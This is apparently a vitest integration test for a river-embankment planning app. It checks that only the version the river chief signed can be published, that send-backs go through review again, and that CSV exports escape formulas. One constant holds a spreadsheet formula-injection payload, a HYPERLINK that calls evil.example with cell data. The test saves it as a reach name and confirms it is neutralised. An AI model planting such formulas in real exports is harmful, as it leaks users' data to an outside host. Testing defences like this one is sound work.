// Publishing publishes exactly the version the river chief signed (issue 17): a version saved after
// the sign-off is refused with both versions named, and a send-back from 公告实施 goes back through
// review (公告实施 → 现场复核, then the chief signs again at 审核确定 and 成果文件制作与验收).
import type { Feature } from 'geojson';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { StageId } from '../../src/domain/workflow/stages';
import { type AccountServer, startWithAccounts, testAccount } from '../helpers/accounts';
import { consultOn, TEST_DEPARTMENT } from '../helpers/consult';
import { displayAndAcceptOnServer } from '../helpers/display-accept';

const ACCOUNTS = {
  admin: testAccount('sp-admin', { role: 'admin' }),
  planner: testAccount('sp-planner', { role: 'planner', canPublish: true }),
  gaopu: testAccount('sp-gaopu', { role: 'chief', person: '高朴' }), // chief of city-01 钦江
  dept: TEST_DEPARTMENT,
};
type Who = keyof typeof ACCOUNTS;
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

/** Two toe lines ±40 m around a 1 km reach near Qinzhou; `shift` moves it north (a new version). */
function reach(shift: number, name = 'QJ-A'): Feature[] {
  const toe = (role: string, dLat: number): Feature => ({
    type: 'Feature',
    geometry: {
      type: 'LineString',
      coordinates: [0, 1, 2, 3, 4].map((i) => [108.6 + i * 0.0025, 21.95 + shift + dLat]),
    },
    properties: {
      reach: name,
      reachName: name,
      river: 'qinjiang',
      role,
      embankmentClass: 2,
      widthM: 30,
    },
  });
  return [toe('toe-left', 0.00036), toe('toe-right', -0.00036)];
}

let app: AccountServer<Who>;
const json = async (res: Response) => (await res.json()) as Record<string, unknown>;
const move = (who: Who, to: StageId, comment?: string) =>
  app.call(
    who,
    'POST',
    '/api/plans/city-01/stage',
    comment === undefined ? { to } : { to, comment },
  );
const publish = (who: Who) =>
  app.call(who, 'POST', '/api/plans/city-01/publish', {}, { 'accept-language': 'en' });
let saved = 0;
async function save(name?: string) {
  const res = await app.call('planner', 'PUT', '/api/plans/city-01/geometry', {
    features: reach(saved * 0.001, name),
    baseVersion: saved,
  });
  expect(res.status, await res.clone().text()).toBe(201);
  saved++;
}
async function advance(stages: StageId[]) {
  for (const to of stages) {
    const who: Who = to === 'review' || to === 'deliverables' ? 'gaopu' : 'planner';
    // 意见征求 → 现场复核 needs a round in which every department replied (issue 13)
    if (to === 'field-check')
      await consultOn(app, { planner: 'planner', department: 'dept' }, 'city-01', 'test-dept-sthj');
    const res = await move(who, to);
    expect(res.status, `→ ${to} by ${who}: ${await res.clone().text()}`).toBe(200);
  }
}
const signOffs = async () => json(await app.call('planner', 'GET', '/api/plans/city-01/signoffs'));

beforeAll(async () => {
  app = await startWithAccounts('hejie-signed-', ACCOUNTS);
}, 120_000);

afterAll(async () => {
  await app?.stop();
});

describe('the published version is the one the chief signed', () => {
  it('refuses a version saved after 高朴 signed at 成果文件制作与验收, naming both (409)', async () => {
    await save();
    await save();
    await save(); // version 3
    await advance(['base-map', 'draft', 'consultation', 'field-check', 'review', 'deliverables']);
    expect(await signOffs()).toMatchObject({
      review: { version: 3, by: 'sp-gaopu', byName: expect.any(String) },
      acceptance: { version: 3, by: 'sp-gaopu' },
      latest: 3,
      publishable: 3,
      reason: null,
    });
    await save(); // version 4, which the chief never saw
    for (const who of ['admin', 'planner'] as const) {
      const res = await publish(who);
      expect(res.status).toBe(409);
      const body = await json(res);
      expect(body).toMatchObject({ code: 'signoff.newerVersion' });
      expect(body.error).toMatch(/version 4 was saved after sp-gaopu signed version 3/);
      expect(body.error).toMatch(/send the plan back to Field check/);
    }
    const zh = await app.call(
      'admin',
      'POST',
      '/api/plans/city-01/publish',
      {},
      {
        'accept-language': 'zh-CN',
      },
    );
    expect((await json(zh)).error).toContain('第 4 版是在 sp-gaopu 签认第 3 版之后保存的');
    expect(await signOffs()).toMatchObject({ latest: 4, publishable: null });
    expect((await json(await app.call('public', 'GET', '/api/plans/city-01'))).stage).toBe(
      'deliverables',
    );
    expect((await app.call('public', 'GET', '/api/plans/city-01/signoffs')).status).toBe(401);
  });

  it('publishes version 4 once the chief has signed it at both steps', async () => {
    expect((await move('planner', 'review', '第 4 版需河长重新签认')).status).toBe(200);
    expect((await move('planner', 'field-check', '第 4 版需河长重新签认')).status).toBe(200);
    expect(await signOffs()).toMatchObject({ review: null, acceptance: null, publishable: null });
    await advance(['review', 'deliverables']);
    // a finished 公示 and a 合格 acceptance of version 4 (issue 13); the server restarts after it
    await displayAndAcceptOnServer(app, 'planner', 'city-01', 4);
    const res = await publish('planner');
    expect(res.status, await res.clone().text()).toBe(201);
    expect(await json(res)).toMatchObject({ version: 4 });
  });

  it('a send-back from 公告实施 goes to 现场复核, and the chief signs the new version again', async () => {
    const toDeliverables = await move('planner', 'deliverables', '公告有误');
    expect(toDeliverables.status).toBe(400);
    expect(await json(toDeliverables)).toMatchObject({
      code: 'workflow.back.throughReview',
      field: 'to',
    });
    expect((await move('planner', 'review', '公告有误')).status).toBe(400);
    expect((await move('gaopu', 'field-check', '公告有误')).status).toBe(403); // a planner's step
    const noComment = await move('planner', 'field-check');
    expect([noComment.status, (await json(noComment)).field]).toEqual([400, 'comment']);
    expect((await move('planner', 'field-check', '公告有误，需重新复核')).status).toBe(200);
    expect(await signOffs()).toMatchObject({ review: null, acceptance: null });
    await save(EVIL); // version 5, with a reach (id and name) that is a spreadsheet formula
    expect((await publish('planner')).status).toBe(409); // not at 成果文件制作与验收
    await advance(['review', 'deliverables']);
    expect(await signOffs()).toMatchObject({
      review: { version: 5, by: 'sp-gaopu' },
      acceptance: { version: 5, by: 'sp-gaopu' },
      publishable: 5,
    });
    await displayAndAcceptOnServer(app, 'planner', 'city-01', 5);
    const res = await publish('admin');
    expect(res.status, await res.clone().text()).toBe(201);
    expect(await json(res)).toMatchObject({ version: 5 });
  });

  it('markers.csv of that publication: the formula reach name is neutralised in every row', async () => {
    const res = await app.call('planner', 'GET', '/api/plans/city-01/markers.csv');
    expect(res.status).toBe(200);
    const text = await res.text();
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
  });
});
